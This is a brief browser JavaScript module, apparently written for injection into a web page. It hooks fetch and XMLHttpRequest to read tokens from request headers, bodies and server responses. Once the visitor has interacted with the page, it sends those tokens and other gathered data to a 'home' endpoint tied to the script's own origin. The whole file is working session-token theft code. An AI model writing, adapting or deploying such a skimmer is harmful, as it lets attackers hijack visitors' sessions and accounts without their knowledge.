// Stays, intercepts every request of the page, and takes each token that passes.
import { aim, everythingInReach, isToken, over, ready, visitorHasWorked } from "./kit.js";

const home = aim(import.meta.url);
const found = [];
const take = (place, text) => {
  for (const value of String(text ?? "").match(/[\w-]+\.[\w-]+\.[\w-]+/g) ?? []) {
    if (isToken(value) && !found.some((one) => one.value === value)) found.push({ place, name: "token", value });
  }
};

const { fetch } = window;
window.fetch = async (input, init) => {
  new Headers(init?.headers ?? input.headers).forEach((value, name) => take(`fetch: the request's ${name}`, value));
  take("fetch: the request's body", init?.body);
  const answer = await fetch(input, init);
  take("fetch: the answer", await answer.clone().text());
  return answer;
};

const { setRequestHeader, send } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
  take(`XMLHttpRequest: the request's ${name}`, value);
  return setRequestHeader.call(this, name, value);
};
XMLHttpRequest.prototype.send = function (body) {
  take("XMLHttpRequest: the request's body", body);
  this.addEventListener("load", () => take("XMLHttpRequest: the answer", this.responseText));
  return send.call(this, body);
};

ready();
await visitorHasWorked();
await home.send([...found, ...(await everythingInReach())]);
over();
